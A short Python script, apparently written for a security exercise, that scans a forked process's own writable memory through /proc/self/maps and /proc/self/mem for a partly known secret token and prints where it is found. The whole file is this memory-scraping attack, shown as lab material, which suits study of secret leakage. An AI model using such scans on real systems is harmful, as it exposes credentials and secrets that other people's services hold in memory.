# A forked process has what its server ever held: is the teacher's secret among it?
import re

# half of the secret is given to this attack; the other half would be a find
wanted = re.compile(b"HALFSECRET" + rb"[0-9a-f]{16}")
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if not match:
            continue
        low, high = (int(part, 16) for part in match.groups())
        try:
            memory.seek(low)
            content = memory.read(high - low)
        except (OSError, ValueError, OverflowError):
            continue
        if wanted.search(content):
            print("FOUND", line)
